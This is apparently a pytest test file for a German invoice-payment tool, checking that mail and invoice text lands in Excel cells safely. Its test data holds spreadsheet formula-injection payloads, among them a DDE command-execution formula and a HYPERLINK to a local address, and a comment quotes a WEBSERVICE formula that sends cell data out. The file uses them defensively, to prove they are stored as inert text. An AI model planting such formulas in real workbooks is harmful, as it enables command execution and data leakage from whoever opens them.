"""Text from invoices and mails reaches cells safely on both adapters' shared layer.

Broke: a mail with control characters in From/Subject crashed the whole run
(openpyxl IllegalCharacterError in Quelle), and a supplier name "=HYPERLINK(…)" from an
XRechnung was stored as a live formula.
"""

from __future__ import annotations

from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from zahllauf import schema
from zahllauf.adapters import cells
from zahllauf.adapters.xlsx_file import open_workbook
from zahllauf.adapters.xlsx_template import build_template
from zahllauf.port import Link
from zahllauf.schema import C, Kind

PAYMENTS = schema.PAYMENTS.name

HOSTILE = [
    ("Lieferant\x01\x0bGmbH", "LieferantGmbH", "control characters from an encoded mail header"),
    ("Rechnung\x07\x1b[31m", "Rechnung[31m", "bell and escape from a subject"),
    ("Zeile 1\nZeile 2\tTab", "Zeile 1\nZeile 2\tTab", "line feed and tab are text"),
    ("Nul\x00Byte\x7f", "NulByte", "NUL and DEL"),
]
FORMULAS = [
    '=HYPERLINK("http://127.0.0.1:9/x","Klick")',
    "=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.fixture
def workbook(tmp_path: Path) -> Path:
    path = tmp_path / "Zahlungsliste.xlsx"
    build_template(path)
    return path


@pytest.mark.parametrize(("text", "stored", "reason"), HOSTILE)
def test_control_characters_are_removed_and_the_save_works(
    workbook: Path, text: str, stored: str, reason: str
) -> None:
    with open_workbook(workbook) as port:
        port.append_rows(PAYMENTS, [{C.ID: 1, C.QUELLE: text, C.BELEG: Link("a.pdf", text)}])
    with open_workbook(workbook, save=False) as port:
        (row,) = port.read_rows(PAYMENTS)
    assert row[C.QUELLE] == stored, reason
    assert row[C.BELEG].text == stored


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_stored_as_text(workbook: Path, text: str) -> None:
    with open_workbook(workbook) as port:
        port.append_rows(PAYMENTS, [{C.ID: 1, C.LIEFERANT: text, C.NUMMER: text}])
        port.write_state({"probe": text})
    sheet = load_workbook(workbook)[PAYMENTS]
    for cell in (sheet["C2"], sheet["D2"]):
        assert cell.value == text and cell.data_type == "s", "never a formula"
    with open_workbook(workbook) as port:  # a later run rewrites the sheet: still text
        port.update_rows(PAYMENTS, {2: {C.STATUS: "Offen"}})
    assert load_workbook(workbook)[PAYMENTS]["C2"].data_type == "s"


@pytest.mark.parametrize(
    ("typed", "expected", "reason"),
    [
        ("1.380,40 €", Decimal("1380.40"), "euro sign after the amount"),
        ("EUR 1.380,40", Decimal("1380.40"), "EUR before the amount"),
        ("1 380,40", Decimal("1380.40"), "space as thousands separator"),
        ("12,5", Decimal("12.50"), "at least two decimals"),
        ("zwölf Euro", "zwölf Euro", "no number stays text, for the checks to report"),
    ],
)
def test_amounts_typed_as_text_are_read(typed: str, expected: object, reason: str) -> None:
    assert cells.from_cell(typed, Kind.MONEY) == expected, reason


def test_a_run_that_changes_nothing_does_not_save(workbook: Path) -> None:
    # Broke: every run re-saved the workbook and rotated the backup, so a run with
    # nothing new (or a failed one) overwrote the restore point of the last real change.
    with open_workbook(workbook) as port:
        port.append_rows(PAYMENTS, [{C.ID: 1, C.STATUS: "Offen"}])
        port.write_state({schema.STATE_NEXT_ID: "2"})
    before = workbook.stat().st_mtime_ns, workbook.read_bytes()
    with open_workbook(workbook) as port:
        port.update_rows(PAYMENTS, {2: {C.STATUS: "Offen", C.ID: 1}})
        port.write_state({schema.STATE_SCHEMA_VERSION: str(schema.SCHEMA_VERSION)})
    assert (workbook.stat().st_mtime_ns, workbook.read_bytes()) == before


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_in_the_state_sheet_is_text(workbook: Path, text: str) -> None:
    # Broke: a supplier name '=WEBSERVICE("http://…"&Lieferanten!C2)' from an XRechnung
    # reached the hidden state sheet (lieferant.<ID>) as a live formula.
    with open_workbook(workbook) as port:
        port.write_state({"lieferant.2": text})
    cell = next(
        row[1]
        for row in load_workbook(workbook)["_zahllauf"].iter_rows()
        if row[0].value == "lieferant.2"
    )
    assert cell.value == text and cell.data_type == "s"
    with open_workbook(workbook, save=False) as port:
        assert port.read_state()["lieferant.2"] == text
